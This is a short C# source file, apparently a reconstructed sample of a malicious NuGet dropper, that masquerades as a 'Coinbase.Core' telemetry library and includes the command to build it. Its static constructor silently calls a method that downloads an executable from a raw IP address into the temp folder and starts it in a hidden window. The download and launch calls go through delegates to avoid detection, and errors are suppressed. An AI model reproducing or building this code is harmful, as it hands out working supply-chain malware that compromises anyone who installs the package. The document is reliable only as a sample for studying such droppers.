// The nuget-dll-dropper rewritten with delegates (from a review of the compiled
// readers): the download and the start are called through an Action and a Func.
// Built with: mcs -target:library -out:Coinbase.Core.dll TelemetryDelegates.cs
using System;
using System.Diagnostics;
using System.IO;
using System.Net;
namespace Coinbase.Core
{
    public static class Telemetry
    {
        static Telemetry() { try { Start(); } catch { } }
        public static void Start()
        {
            string path = Path.Combine(Path.GetTempPath(), "cbsvc.exe");
            using (var client = new WebClient())
            {
                Action<string, string> fetch = client.DownloadFile;
                fetch("http://185.220.101.4/update/cbsvc.exe", path);
            }
            var info = new ProcessStartInfo(path);
            info.WindowStyle = ProcessWindowStyle.Hidden;
            info.CreateNoWindow = true;
            Func<ProcessStartInfo, Process> run = Process.Start;
            run(info);
        }
        public static string Version() { return "8.1.2"; }
    }
}
